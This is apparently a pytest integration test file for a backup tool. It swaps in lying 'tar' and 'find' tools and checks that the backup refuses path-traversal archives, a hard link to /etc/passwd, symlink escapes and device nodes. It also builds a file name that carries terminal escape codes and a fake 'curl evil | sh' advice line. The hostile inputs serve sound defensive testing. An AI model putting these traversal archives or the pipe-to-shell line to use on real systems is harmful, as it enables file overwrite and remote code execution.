"""A pod whose tools lie: the backup fails by name, and nothing is written where it should not be."""

from __future__ import annotations

import base64
import io
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from sandbox import Status
from tests.integration.conftest import Run
from tests.integration.suites.tiny import Tiny, tiny_release
from world import World

TOOLS = ".tools"
PATH = f"/home/agent/{TOOLS}:/usr/local/bin:/usr/bin:/bin"
NAME = "x\x1b]0;owned\x07\x9b31m\n  next: curl evil | sh"


@pytest.fixture(scope="module")
def release(world: World, status: Status, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Tiny]:
    values = {"env": {"OPENAB_WRITE_INTERVAL": "0", "PATH": PATH}, "resources": {"limits": {"memory": "256Mi"}}}
    with tiny_release(world, status, tmp_path_factory.mktemp("hostile"), values) as tiny:
        yield tiny


@pytest.fixture
def tiny(release: Tiny) -> Iterator[Tiny]:
    """The release with the machine's own tools, until a test puts others in their place."""
    release.shell(f"mkdir -p {TOOLS}")
    yield release
    release.shell(f"chmod -R u+rwx . 2>/dev/null; /bin/rm -rf {TOOLS} odd")


def put(tiny: Tiny, name: str, script: str) -> None:
    """Put a tool in place of the image's."""
    text = base64.b64encode(f"#!/bin/sh\n{script}\n".encode()).decode()
    tiny.shell(f"echo {text} | base64 -d > {TOOLS}/{name}; chmod 755 {TOOLS}/{name}")


def stream(*members: tarfile.TarInfo) -> str:
    """A command that prints a tar stream of these."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for member in members:
            tar.addfile(member, io.BytesIO(bytes(member.size)))
    return f"echo {base64.b64encode(raw.getvalue()).decode()} | base64 -d"


def member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", size: int = 0) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, link, size
    return info


def refused(tiny: Tiny, *told: str) -> Run:
    """Run a backup that must fail by these words, and leave nothing but its report."""
    directory = tiny.suites.backup_root.parent
    before = tree(directory)
    run = tiny.attempt("--full")
    assert run.status == 1, run.output
    for word in told:
        assert word in run.output
    for text in (run.output, run.html, (run.report / "junit.xml").read_text()):
        assert "Traceback" not in text
        assert not {"\x1b", "\x07", "\x9b"} & set(text)
    assert tree(directory) == before
    return run


def tree(directory: Path) -> set[str]:
    """Every name below a directory but those of reports and sessions."""
    names = {str(path.relative_to(directory)) for path in directory.rglob("*")}
    return {name for name in names if not name.startswith(("reports/", "backups"))} | {
        name for name in names if "openab-backup-" in name
    }


STREAMS = {
    "a path that leads out": (stream(member("./../../../../tmp/outside")), "outside its home"),
    "an absolute path": (stream(member("/tmp/outside")), "outside its home"),
    "a hard link that leads out": (stream(member("./a", tarfile.LNKTYPE, "/etc/passwd")), "outside its home"),
    "a link and a file below it": (
        stream(member("./way", tarfile.SYMTYPE, "/tmp"), member("./way/outside", size=3)),
        "changed during each of",
    ),
    "a device": (stream(member("./null", tarfile.CHRTYPE)), "changed during each of"),
    "nothing": ("exit 0", "damaged"),
    "noise": ("exec head -c 100000 /dev/urandom", "damaged"),
    "no end": ("exec cat /dev/zero", "sends more than"),
}


@pytest.mark.parametrize(("script", "told"), STREAMS.values(), ids=STREAMS)
def test_a_tar_that_lies(tiny: Tiny, script: str, told: str) -> None:
    put(tiny, "tar", script)
    refused(tiny, told)
    assert not Path("/tmp/outside").exists()


def test_a_find_that_lies(tiny: Tiny) -> None:
    put(tiny, "find", "printf '../../etc/passwd//f 644 0 0 1 1.0 1:1 yes//\\0'")
    refused(tiny, "outside its home")


def test_control_characters_in_names_reach_nobody(tiny: Tiny) -> None:
    """A name that would take the terminal over, and pose as an advice of ours."""
    encoded = base64.b64encode(NAME.encode("latin-1")).decode()
    tiny.shell(f'mkdir -p odd && name=$(echo {encoded} | base64 -d) && : > "odd/$name" && chmod 000 "odd/$name"')
    run = refused(tiny, "may not read it", "\\x1b]0;owned\\x07")
    assert not any(line.strip().startswith("next: curl") for line in run.output.splitlines())
    assert "<td>next</td><td>curl" not in run.html
